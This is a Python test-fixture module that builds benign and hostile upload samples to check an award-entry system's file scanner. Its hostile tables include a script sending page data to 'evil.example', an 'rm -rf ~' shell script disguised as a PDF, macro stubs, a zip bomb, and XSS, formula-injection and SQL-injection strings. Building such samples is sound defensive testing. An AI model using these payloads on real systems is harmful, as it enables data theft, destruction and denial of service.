"""Real sample files, good and hostile, built in code at test time (nothing binary is committed).

``GOOD`` and ``HOSTILE`` map a sample's name to a builder returning ``(filename, bytes)``. The zip
bomb is written to disk in a streaming way (``write_zip_bomb``): 300 MB of zeros compress to about
1.4 MB. ``python tests/hostile/hostile_corpus.py OUTDIR`` writes every sample to OUTDIR, to try the
checks by hand or against another scanner.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

# --- good files ---------------------------------------------------------------------------------


def pdf_bytes(text: str = "Transparency Crystal Award") -> bytes:
    """A minimal valid PDF (one page, one line of text) with a correct xref table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bytes(width: int = 2, height: int = 2) -> bytes:
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(raw)) + _png_chunk(b"IEND", b""))


# A 1×1 greyscale baseline JPEG (JFIF), as produced by common encoders.
JPEG_1X1 = bytes.fromhex(
    "FFD8FFE000104A46494600010100000100010000FFDB004300080606070605080707070909080A0C140D0C0B0B0C1912130F141D"
    "1A1F1E1D1A1C1C20242E2720222C231C1C2837292C30313434341F27393D38323C2E333432FFC0000B080001000101011100FFC4"
    "001F0000010501010101010100000000000000000102030405060708090A0BFFC400B510000201030302040305050404000001"
    "7D01020300041105122131410613516107227114328191A1082342B1C11552D1F02433627282090A161718191A25262728292A"
    "3435363738393A434445464748494A535455565758595A636465666768696A737475767778797A838485868788898A92939495"
    "969798999AA2A3A4A5A6A7A8A9AAB2B3B4B5B6B7B8B9BAC2C3C4C5C6C7C8C9CAD2D3D4D5D6D7D8D9DAE1E2E3E4E5E6E7E8E9EA"
    "F1F2F3F4F5F6F7F8F9FAFFDA0008010100003F00D2CF20FFD9"
)


def mp4_bytes(brand: bytes = b"isom") -> bytes:
    ftyp = brand + struct.pack(">I", 512) + b"isomiso2avc1mp41"
    free = struct.pack(">I", 8) + b"free"
    mdat_payload = bytes(64)
    return (struct.pack(">I", 8 + len(ftyp)) + b"ftyp" + ftyp + free
            + struct.pack(">I", 8 + len(mdat_payload)) + b"mdat" + mdat_payload)


_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_OOXML = {
    "docx": ("word/document.xml",
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
             '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
             "<w:body><w:p><w:r><w:t>透明晶質獎 佐證資料</w:t></w:r></w:p></w:body></w:document>"),
    "pptx": ("ppt/presentation.xml",
             "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
             '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">'
             '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>'),
}
_MACRO_TYPES = {
    "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
}


def _content_types(main_part: str, main_type: str, extra: str = "") -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra}</Types>')


def _rels(main_part: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS_NS}">'
            f'<Relationship Id="rId1" Type="{_DOC_REL}" Target="{main_part}"/></Relationships>')


def ooxml_bytes(kind: str, extra_members: dict[str, bytes] | None = None, main_type: str | None = None,
                extra_types: str = "") -> bytes:
    if kind == "xlsx" and main_type is None and not extra_members:
        return xlsx_bytes()
    main_part, default_type, body = _OOXML.get(kind) or ("xl/workbook.xml", "", "<workbook/>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(main_part, main_type or default_type, extra_types))
        archive.writestr("_rels/.rels", _rels(main_part))
        archive.writestr(main_part, body)
        for name, data in (extra_members or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["機關", "分數"])
    sheet.append(["澎湖縣政府", 88.5])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def odf_bytes(mimetype: bytes = b"application/vnd.oasis.opendocument.text",
              extra_members: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)  # first and stored, as ODF requires
        archive.writestr("content.xml", '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
                         'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                         'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
                         "<text:p>綠島鄉公所 佐證資料</text:p></office:text></office:body></office:document-content>",
                         zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                         'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>', zipfile.ZIP_DEFLATED)
        for name, data in (extra_members or {}).items():
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


# --- hostile and broken files -------------------------------------------------------------------

VBA_PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()"
EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + struct.pack("<I", 64)
       + b"PE\x00\x00\x4c\x01" + bytes(200))
HTML_PAGE = (b"<!DOCTYPE html>\n<html><head><title>report</title></head><body>"
             b"<script>fetch('/audit').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"
             b"</body></html>\n")
SVG_SCRIPT = (b'<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
              b'<script type="text/javascript">alert(document.cookie)</script><rect width="10" height="10"/></svg>\n')
OLE2_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + bytes(1024)


def pdf_html_polyglot() -> bytes:
    """Valid PDF for a reader, a page with a script for a browser that sniffs the first bytes."""
    pdf = pdf_bytes()
    return pdf[:9] + b"<!-- <html><body><script>alert(document.domain)</script></body></html> -->\n" + pdf[9:]


def encrypted_ooxml() -> bytes:
    """A password-protected DOCX is an OLE2 file with an "EncryptedPackage" stream (MS-OFFCRYPTO)."""
    directory = "EncryptionInfo".encode("utf-16-le").ljust(64, b"\0") + "EncryptedPackage".encode("utf-16-le")
    return OLE2_DOC + bytes(512) + directory.ljust(512, b"\0")


# ZipCrypto (traditional PKWARE encryption), enough to build a real password-protected archive.
def _crc_table() -> list[int]:
    table = []
    for value in range(256):
        for _ in range(8):
            value = (value >> 1) ^ 0xEDB88320 if value & 1 else value >> 1
        table.append(value)
    return table


_CRC = _crc_table()


class _ZipCrypto:
    def __init__(self, password: bytes):
        self.keys = [0x12345678, 0x23456789, 0x34567890]
        for byte in password:
            self._update(byte)

    def _crc(self, crc: int, byte: int) -> int:
        return (crc >> 8) ^ _CRC[(crc ^ byte) & 0xFF]

    def _update(self, byte: int) -> None:
        k0, k1, k2 = self.keys
        k0 = self._crc(k0, byte)
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = self._crc(k2, k1 >> 24)
        self.keys = [k0, k1, k2]

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for byte in data:
            temp = (self.keys[2] | 2) & 0xFFFF
            out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
            self._update(byte)
        return bytes(out)


def encrypted_zip(members: dict[str, bytes], password: bytes = b"penghu") -> bytes:
    """A ZIP whose members are ZipCrypto-encrypted (stored), readable with the password."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data in members.items():
        crc = zlib.crc32(data)
        cipher = _ZipCrypto(password)
        payload = cipher.encrypt(os.urandom(11) + bytes([crc >> 24])) + cipher.encrypt(data)
        encoded = name.encode()
        offset = out.tell()
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x1, 0, 0, 0, crc, len(payload), len(data),
                             len(encoded), 0)
        out.write(header + encoded + payload)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x1, 0, 0, 0, crc, len(payload),
                                  len(data), len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    out.write(central.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central.getvalue()),
                          start, 0))
    return out.getvalue()


def write_zip_bomb(path: Path, megabytes: int = 300) -> Path:
    """A DOCX (valid parts) whose media member unpacks to ``megabytes`` MB of zeros, streamed."""
    main_part, main_type, body = _OOXML["docx"]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:  # fast; still ~1 MB
        archive.writestr("[Content_Types].xml", _content_types(main_part, main_type))
        archive.writestr("_rels/.rels", _rels(main_part))
        archive.writestr(main_part, body)
        block = bytes(1024 * 1024)
        with archive.open("word/media/image1.png", "w") as member:
            for _ in range(megabytes):
                member.write(block)
    return path


def ratio_bomb() -> bytes:
    """Under the total cap, but one member expands 1000:1 (8 MB of zeros in ~8 KB)."""
    return ooxml_bytes("docx", {"word/media/image1.png": bytes(8 * 1024 * 1024)})


def many_members() -> bytes:
    members = {f"word/media/p{i}.xml": b"" for i in range(10_001)}
    return ooxml_bytes("docx", members)


def lying_sizes() -> bytes:
    """The central directory says a member holds 10 bytes; its data unpacks to 2 MB (CRC of the truth)."""
    good = ooxml_bytes("docx", {"word/media/data.bin": b"A" * (2 * 1024 * 1024)})
    data = bytearray(good)
    size = struct.pack("<I", 2 * 1024 * 1024)
    # The uncompressed size appears in the local header and in the central directory: shrink both.
    while (index := data.find(size)) != -1:
        data[index:index + 4] = struct.pack("<I", 10)
    return bytes(data)


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: int(len(data) * keep)]


GOOD: dict[str, Callable[[], tuple[str, bytes]]] = {
    "pdf": lambda: ("成果報告.pdf", pdf_bytes()),
    "docx": lambda: ("執行計畫.docx", ooxml_bytes("docx")),
    "xlsx": lambda: ("統計表.xlsx", xlsx_bytes()),
    "pptx": lambda: ("簡報.pptx", ooxml_bytes("pptx")),
    "odt": lambda: ("說明.odt", odf_bytes()),
    "jpeg": lambda: ("活動照片.JPG", JPEG_1X1),
    "png": lambda: ("流程圖.png", png_bytes()),
    "mp4": lambda: ("宣導影片.mp4", mp4_bytes()),
    "docx_with_chart": lambda: ("附圖表.docx", ooxml_bytes("docx", {
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes()})),
}

# name → (filename, bytes, the refusal's reason code in award.entries.filetypes)
HOSTILE: dict[str, Callable[[], tuple[str, bytes, str]]] = {
    "docm_macro": lambda: ("巨集.docm", ooxml_bytes("docx", {"word/vbaProject.bin": VBA_PROJECT},
                                                    main_type=_MACRO_TYPES["docx"]), "macro"),
    "xlsm_macro": lambda: ("巨集.xlsm", ooxml_bytes("xlsx", {"xl/vbaProject.bin": VBA_PROJECT},
                                                    main_type=_MACRO_TYPES["xlsx"]), "macro"),
    "docx_hiding_vba": lambda: ("看似正常.docx", ooxml_bytes("docx", {"word/vbaProject.bin": VBA_PROJECT}),
                                "macro"),
    "html_as_docx": lambda: ("report.docx", HTML_PAGE, "html"),
    "svg_script": lambda: ("logo.svg", SVG_SCRIPT, "svg"),
    "svg_as_png": lambda: ("logo.png", SVG_SCRIPT, "svg"),
    "exe_as_pdf": lambda: ("report.pdf", EXE, "program"),
    "elf_as_pdf": lambda: ("report.pdf", b"\x7fELF\x02\x01\x01" + bytes(100), "program"),
    "script_as_pdf": lambda: ("report.pdf", b"#!/bin/sh\nrm -rf ~\n", "program"),
    "pdf_named_exe": lambda: ("report.pdf.exe", pdf_bytes(), "extension"),
    "pdf_named_docx": lambda: ("report.docx", pdf_bytes(), "extension"),
    "nul_in_name": lambda: ("report.pdf\x00.exe", pdf_bytes(), "extension"),
    "percent00_in_name": lambda: ("report.pdf%00.exe", pdf_bytes(), "extension"),
    "rtl_override_name": lambda: ("invoice\u202efdp.exe", pdf_bytes(), "extension"),
    "pdf_html_polyglot": lambda: ("polyglot.pdf", pdf_html_polyglot(), "polyglot"),
    "truncated_pdf": lambda: ("cut.pdf", truncated(pdf_bytes(), 0.6), "damaged"),
    "ratio_bomb": lambda: ("bomb.docx", ratio_bomb(), "zip_bomb"),
    "too_many_members": lambda: ("many.docx", many_members(), "zip_bomb"),
    "lying_sizes": lambda: ("liar.docx", lying_sizes(), "damaged"),
    "encrypted_zip": lambda: ("secret.docx", encrypted_zip({
        "[Content_Types].xml": _content_types(*_OOXML["docx"][:2]).encode(),
        "word/document.xml": _OOXML["docx"][2].encode()}), "encrypted"),
    "password_docx": lambda: ("密碼.docx", encrypted_ooxml(), "encrypted"),
    "corrupt_zip": lambda: ("broken.docx", truncated(ooxml_bytes("docx"), 0.7), "damaged"),
    "plain_zip": lambda: ("files.docx", _plain_zip(), "zip"),
    "nested_zip": lambda: ("nested.docx", ooxml_bytes("docx", {"word/embeddings/payload.zip": _plain_zip()}),
                           "nested"),
    "legacy_doc": lambda: ("舊檔.doc", OLE2_DOC, "legacy_office"),
    "legacy_doc_named_docx": lambda: ("舊檔.docx", OLE2_DOC, "legacy_office"),
    "empty": lambda: ("empty.pdf", b"", "empty"),
    "ods_as_odt": lambda: ("試算表.odt", odf_bytes(b"application/vnd.oasis.opendocument.spreadsheet"), "odf_kind"),
    "odt_with_macro": lambda: ("巨集.odt", odf_bytes(extra_members={
        "Basic/Standard/Module1.xml": b"<script:module>Sub Main\nShell(\"calc\")\nEnd Sub</script:module>"}),
        "macro"),
    "quicktime_mov": lambda: ("video.mp4", mp4_bytes(b"qt  "), "video"),
    "dotx_template": lambda: ("template.docx", ooxml_bytes(
        "docx", main_type="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        "unknown"),
    "text_file": lambda: ("notes.pdf", "只是文字".encode(), "unknown"),
}


# --- hostile text -------------------------------------------------------------------------------

ONE_MB_TEXT = "廉" * (1024 * 1024)  # a 1 MB (in characters; 3 MB of UTF-8) field: longer than any limit
# name → text typed into a form field. Each must be stored verbatim (control characters removed, see
# docs/security.md), shown escaped and exported as a string cell.
HOSTILE_TEXT: dict[str, str] = {
    "script": '<script>alert("xss")</script>',
    "img_onerror": '"><img src=x onerror=alert(1)>',
    "svg_onload": "<svg/onload=alert(1)>",
    "jinja": "{{ config.SECRET_KEY }}{% raw %}",
    "dde_formula": "=cmd|' /C calc'!A0",
    "plus_formula": '+HYPERLINK("http://evil.example","點我")',
    "minus_formula": "-2+3+cmd|' /C calc'!A0",
    "at_formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cjk": "澎湖縣政府 廉政透明計畫（第３期）𠮷野家 — 綠島、蘭嶼、小琉球",
    "rtl_override": "invoice\u202efdp.exe",
    "zero_width": "廉\u200b政\u200d署\ufeff",
    "sql": "'; DROP TABLE entries; --",
    "control": "a\x00b\x01c\x07d\x0be\x1bf\x7fg",
    "newlines": "第一行\r\n第二行\r第三行\n",
    "percent_null": "%00%0d%0a<script>",
    "emoji": "🏝️👩🏻‍⚖️✅",
}


def _plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    return out.getvalue()


def main(outdir: str) -> None:
    target = Path(outdir)
    target.mkdir(parents=True, exist_ok=True)
    for key, build in {**GOOD, **HOSTILE}.items():
        name, data, *_ = build()
        safe = name.replace("\x00", "%00").replace("/", "_")
        (target / f"{key}--{safe}").write_bytes(data)
    write_zip_bomb(target / "zip_bomb--bomb.docx")
    print(f"wrote {len(GOOD) + len(HOSTILE) + 1} samples to {target}")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "hostile-samples")
